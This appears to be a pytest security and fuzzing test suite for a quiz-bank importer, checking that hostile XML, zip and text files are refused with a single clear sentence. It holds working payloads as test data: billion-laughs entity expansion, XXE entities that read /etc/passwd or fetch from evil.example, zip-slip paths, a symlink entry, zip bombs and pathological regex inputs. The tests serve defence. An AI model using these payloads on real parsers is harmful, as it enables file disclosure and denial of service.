"""Files built to harm, broken files and bytes at random: each gets its questions or one clear sentence, never a traceback."""

import io
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from catalog.formats import aiken, gift, markdown, moodle, qti, table
from catalog.formats.bank import tidy
from catalog.formats.draft import Unreadable
from catalog.formats.files import dump
from catalog.formats.markup import to_markdown
from catalog.read import read
from commands.imports import app as imports
from tests.catalog.test_banks import BANKS, MOODLE, QTI1

READERS = {"gift": gift.read, "aiken": aiken.read, "markdown": markdown.read, "moodle": moodle.read, "qti": qti.read, "csv": table.read}  # fmt: skip
XML = ("moodle", "qti")


def refused(form: str, raw: bytes, path: Path, said: str) -> None:
    path.write_bytes(raw)
    with pytest.raises(Unreadable, match=said) as caught:
        READERS[form](path)
    assert str(caught.value).endswith(".")
    assert "\n" not in str(caught.value)


# ── XML ──

LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"  # fmt: skip


@pytest.mark.parametrize("form", XML)
@pytest.mark.parametrize(
    "declared",
    [
        LAUGHS + "<quiz>&a9;</quiz>",
        '<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz><question type="essay"><name><text>&x;</text></name></question></quiz>',
        '<!DOCTYPE q [<!ENTITY x SYSTEM "http://evil.example/x">]><quiz>&x;</quiz>',
        '<!DOCTYPE q [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><quiz/>',
    ],
)
def test_entities_are_refused(form, declared, tmp_path) -> None:
    refused(form, declared.encode(), tmp_path / "bank.xml", "declares XML entities or fetches something")


def test_a_doctype_that_only_names_a_dtd_is_read(tmp_path) -> None:
    (tmp_path / "bank.xml").write_text(QTI1, encoding="utf-8")
    assert qti.read(tmp_path / "bank.xml").quizzes


@pytest.mark.parametrize("form", XML)
@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (b"", "is empty"),
        (b"<quiz>", "is not XML"),
        (b"not xml at all", "is not XML"),
        (b'<?xml version="1.0" encoding="nonsense"?><quiz/>', "is not XML"),
        (b"\xff\xfe\x00\x01", "is not XML"),
        (b"<quiz>" + b"<a>" * 50_000, "nested too deeply"),
        (b"<quiz>" + b"<a/>" * 100_001 + b"</quiz>", "holds more than 100,000 elements"),
        (b"<quiz>" + b"x" * (5 * 1024 * 1024) + b"</quiz>", "larger than 5 MB"),
        (b"<other/>", "is not Moodle XML|holds no QTI question"),
        (b"<quiz/>", "no question in this Moodle|holds no QTI question"),
    ],
)
def test_broken_and_huge_xml_gets_one_sentence(form, raw, said, tmp_path) -> None:
    refused(form, raw, tmp_path / "bank.xml", said)


# ── packages ──


def package(parts: dict[str, bytes], mode: int = 0) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            part = zipfile.ZipInfo(name)
            part.external_attr = mode << 16
            part.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(part, body)
    return made.getvalue()


@pytest.mark.parametrize("name", ["../evil.xml", "a/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "..\\evil.xml"])
def test_a_part_that_leads_out_of_its_folder_is_refused(name, tmp_path) -> None:
    refused("qti", package({name: b"<a/>"}), tmp_path / "p.zip", "leads out of its folder")
    assert list(tmp_path.parent.rglob("evil.xml")) == []


def test_a_link_in_a_package_is_refused(tmp_path) -> None:
    refused("qti", package({"a.xml": b"/etc/passwd"}, 0o120777), tmp_path / "p.zip", "leads out of its folder")


def test_a_package_that_explodes_is_refused_before_it_is_unpacked(tmp_path) -> None:
    raw = package({f"{n}.xml": b" " * (9 * 1024 * 1024) for n in range(5)})
    (tmp_path / "p.zip").write_bytes(raw)
    tracemalloc.start()
    refused("qti", raw, tmp_path / "p.zip", "unpacks to more than 40 MB")
    assert tracemalloc.get_traced_memory()[1] < 30 * 1024 * 1024
    tracemalloc.stop()


def test_a_package_that_lies_about_its_size_is_refused(tmp_path) -> None:
    raw = package({"a.xml": b" " * (41 * 1024 * 1024)})
    lying = raw.replace((41 * 1024 * 1024).to_bytes(4, "little"), (5).to_bytes(4, "little"))
    assert lying != raw
    refused("qti", lying, tmp_path / "p.zip", "not a ZIP file that can be read|unpacks to more")


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (package({f"{n}.txt": b"" for n in range(2_001)}), "more than 2,000 parts"),
        (b"PK\x03\x04 broken", "not a ZIP file that can be read"),
        (package({}), "holds no QTI question"),
        (package({"a.txt": b"hello"}), "holds no QTI question"),
        (package({"a.xml": b"<a"}), "a.xml is not XML"),
        (package({"a.xml": LAUGHS.encode() + b"<a>&a9;</a>"}), "declares XML entities"),
        (package({"a.zip": package({"b.xml": b"<a/>"})}), "holds no QTI question"),
    ],
)
def test_broken_packages_get_one_sentence(raw, said, tmp_path) -> None:
    refused("qti", raw, tmp_path / "p.zip", said)


# ── texts ──


@pytest.mark.parametrize("form", sorted(READERS))
@pytest.mark.parametrize("raw", [b"", b"\n \n", b"\x00\x01\x02", b"x" * (5 * 1024 * 1024 + 1), b"\xff\xfe\x00"])
def test_what_is_no_text_gets_one_sentence(form, raw, tmp_path) -> None:
    refused(form, raw, tmp_path / f"bank.{form}", r"\.$")


@pytest.mark.parametrize(
    ("form", "raw"),
    [
        ("gift", b"{" * 500_000), ("gift", b"a {=" + b"\\" * 500_000), ("gift", b"::" * 300_000), ("gift", b"a {" + b"=b ~c " * 80_000),
        ("gift", b"a\n" * 300_000), ("gift", b"a {\n" + b"\n" * 500_000), ("gift", b"x {#" + b"9" * 300_000 + b"}"), ("gift", b"[" * 500_000),
        ("gift", b"[html]" + b"<b>" * 150_000 + b"{=a ~b ~c}"), ("gift", b"[html]" + b"<" * 500_000 + b"{=a ~b ~c}"), ("gift", b"%" * 500_000),
        ("markdown", b"**" * 250_000), ("markdown", b"- [ ] x\n" * 60_000), ("markdown", b"A) " * 150_000), ("markdown", b"1." * 200_000),
        ("markdown", b"Answer: " + b"a, " * 150_000), ("markdown", b" " * 500_000 + b"x"), ("markdown", b"x\n\n" * 150_000),
        ("aiken", b"A) x\n" * 90_000), ("aiken", b"x\nANSWER: " + b"A," * 200_000), ("aiken", b"ANSWER: A\n" * 50_000),
        ("csv", b"question,answer\n" + b'"' * 400_001), ("csv", b"question,answer\n" + b"a,b\n" * 20_000), ("csv", b"," * 400_000),
        ("moodle", b"<quiz><question type='multichoice'><questiontext><text>" + b"&lt;b&gt;" * 50_000 + b"</text></questiontext></question></quiz>"),
    ],
)  # fmt: skip
def test_no_text_takes_long(form, raw, tmp_path) -> None:
    path = tmp_path / f"bank.{form}"
    began = time.process_time()
    answered(form, raw, path)
    assert time.process_time() - began < 15  # what is worse than linear takes minutes


@pytest.mark.parametrize(
    "piece",
    ["<a ", "<", "<!--", "<![CDATA[", "</", "<a href='", "<" + "a" * 40, "&#", "<b>", "](javascript:", "e\u0301"],
)
def test_no_markup_takes_long(piece) -> None:
    began = time.process_time()
    told, _ = to_markdown(piece * (400_000 // len(piece)))
    tidy(told)
    assert time.process_time() - began < 3


def test_the_command_says_it_and_ends_with_one(tmp_path) -> None:
    (tmp_path / "b.xml").write_text(LAUGHS + "<quiz>&a9;</quiz>", encoding="utf-8")
    done = CliRunner().invoke(imports, ["moodle", str(tmp_path / "b.xml"), "--slug", "b", "--root", str(tmp_path)])
    assert done.exit_code == 1
    assert done.stderr.strip() == "b.xml declares XML entities or fetches something, which no question bank needs."
    assert not (tmp_path / "quizzes").exists()


# ── fuzzing ──

SEEDS = {
    "gift": (BANKS / "every-feature.gift").read_bytes(),
    "aiken": b"Who?\nA) Ann\nB) Bea\nC) Cem\nANSWER: B\n\nWhat?\nA. One\nB. Two\nC. Three\nANSWER: A\n",
    "markdown": b"# T\n\n1. Who?\n - [ ] Ann\n - [x] Bea\n - [ ] Cem\n\n**2. What?**\nA) One\n*B) Two\nC) Three\nAnswer: B\nWhy: So.\n",
    "moodle": MOODLE.encode(),
    "qti": QTI1.encode(),
    "csv": b"id,kind,question,answer,right,why\na,single,Who?,Ann,,No\n,,,Bea,x,Yes\n,,,Cem,,No\nb,numeric,How many?,3 \xc2\xb1 1,x,So\n",
}
bits = st.sampled_from([b"", b"{", b"}", b"=", b"~", b"#", b"####", b"::", b"->", b"%", b"%50%", b"\\", b"\n\n", b"<", b"</", b"<!--", b"&", b"&#0;", b"&#x202e;",
    b"]]>", b"\xff", b"\xc2\x85", "e\u0301".encode() + "\u0301".encode() * 40, b"[[x]]", b"{1:SA:=a}", b"{1:SA:}", b'"', b",", b"1e999", b"-0", b"..", b"*", b"NaN",
    b"ANSWER: B", b"A) ", b"- [x] ", b"[html]", b"<img alt='x'>", b"![x](y)", b"](javascript:x)", b"{{x}}", b"TRUE", b"//", b"$CATEGORY: a/b", b"\x00", b"\r"])  # fmt: skip
spoils = st.lists(st.tuples(st.floats(0, 1), st.integers(0, 60), bits), min_size=1, max_size=6)


def answered(form: str, raw: bytes, path: Path) -> None:
    path.write_bytes(raw)
    try:
        found = READERS[form](path)
    except Unreadable as said:
        text = str(said)
        assert text.endswith("."), text
        return
    for data in found.quizzes:
        again = read(dump(data).encode(), "x")
        assert again.problems == ()
        assert again.data == data
    assert all("\n" not in str(note) for note in found.notes)


@pytest.mark.parametrize("form", sorted(READERS))
@settings(max_examples=40, deadline=None, phases=(Phase.explicit, Phase.generate), suppress_health_check=[*HealthCheck])
@given(spoilt=spoils, begin=st.floats(0, 1))
def test_a_spoilt_bank_gets_questions_or_a_sentence(form, spoilt, begin, tmp_path_factory) -> None:
    raw = SEEDS[form]
    if form == "gift":  # a window of it, as reading all of it takes longer than spoiling it is worth
        start = int(begin * (len(raw) - 1_500))
        raw = raw[start : start + 1_500]
    for where, gone, come in spoilt:
        at = int(where * len(raw))
        raw = raw[:at] + come + raw[at + gone :]
    answered(form, raw, tmp_path_factory.getbasetemp() / f"spoilt.{form}")


@pytest.mark.parametrize("form", sorted(READERS))
@settings(max_examples=30, deadline=None, suppress_health_check=[*HealthCheck])
@given(raw=st.binary(min_size=1, max_size=400) | st.text(max_size=300).map(str.encode))
def test_bytes_at_random_get_questions_or_a_sentence(form, raw, tmp_path_factory) -> None:
    answered(form, raw, tmp_path_factory.getbasetemp() / f"random.{form}")


@settings(max_examples=200)
@given(st.text() | st.text("<>a/![](): javscript{}\u0301\u202e\n\t"))
def test_tidy_text_stays_as_it_is(text) -> None:
    once = tidy(text)
    assert tidy(once) == once
    told, _ = to_markdown(text)
    assert isinstance(told, str)
